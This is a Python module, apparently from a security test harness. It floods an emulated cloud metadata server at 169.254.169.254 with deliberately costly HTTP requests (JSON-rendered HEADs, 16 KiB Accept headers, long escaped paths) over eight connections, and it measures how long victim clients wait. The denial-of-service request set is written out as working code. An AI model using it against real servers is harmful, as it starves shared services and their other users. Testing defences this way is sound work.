"""A guest asks for what costs the server most, as often as it may.

HEAD of a directory as JSON, which has to be rendered to be measured; an Accept of sixteen KiB; escapes; long paths: up to ninety times
the cost of a leaf. Gained: the server's processor. In the way: a port pays for what its requests cost, and what is dear to look at is
refused.
"""

import contextlib
import time

import attack
from attack import Outcome
from field import METADATA, Connection, Field

HOST = "Host: 169.254.169.254\r\n"
REQUESTS = {
    "HEAD of /latest/ as JSON": f"HEAD /latest/ HTTP/1.1\r\n{HOST}Accept: application/json\r\n\r\n",
    "HEAD of /ec2/ as JSON": f"HEAD /ec2/ HTTP/1.1\r\n{HOST}Accept: application/json\r\n\r\n",
    "a long Accept": f"GET /latest/meta-data/ HTTP/1.1\r\n{HOST}Accept: {'a,' * 7800}a\r\n\r\n",
    "escapes": f"GET /{'%61' * 5200} HTTP/1.1\r\n{HOST}\r\n",
    "a long path": f"GET /{'a/' * 7800} HTTP/1.1\r\n{HOST}\r\n",
    "identity documents": f"GET /latest/dynamic/instance-identity/pkcs7 HTTP/1.1\r\n{HOST}\r\n",
}
# The share of the server's processor time that one guest may have beside six that ask without a pause.
MOST_SHARE = 0.6


class Attack(attack.Attack):
    """Eight connections that do nothing else."""

    hosts = ("address", "redirect")
    rest = 2
    no_proof = "no option takes processor time out of the account; the program without it answered at a twentieth of its speed"

    def attack(self, field: Field) -> None:
        """Asks in turn, by as many connections as help."""
        kept: list[Connection] = []
        statuses: dict[str, dict[int, int]] = {name: {} for name in REQUESTS}
        texts = [(name, text.encode()) for name, text in REQUESTS.items()]
        field.ready()
        turn = 0
        while field.goes_on():
            with contextlib.suppress(OSError):
                while len(kept) < 8:
                    kept.append(Connection(METADATA[field.family], seconds=6))
                name, text = texts[turn % len(texts)]
                turn += 1
                for one in kept:
                    one.send(text)
                time.sleep(0.002)
                for one in list(kept):
                    one.socket.settimeout(6)
                    status = self._status(one, text.startswith(b"HEAD"))
                    statuses[name][status] = statuses[name].get(status, 0) + 1
                    if status in (0, 400, 414, 431):
                        one.close()
                        kept.remove(one)
                continue
            for one in kept:
                one.close()
            kept = []
        field.report["statuses"] = statuses

    @staticmethod
    def _status(connection: Connection, is_head: bool) -> int:
        if not is_head:
            return connection.answer()[0]
        data = b""
        with contextlib.suppress(OSError):
            while b"\r\n\r\n" not in data:
                if not (part := connection.socket.recv(1 << 16)):
                    return 0
                data += part
            return int(data.split()[1])
        return 0

    def gained(self, outcome: Outcome) -> str | None:
        """Victims that wait."""
        late = outcome.victims["p99"] / 1000
        return f"victims waited {late:.0f} ms (p99)" if late > 1000 or outcome.lost else None
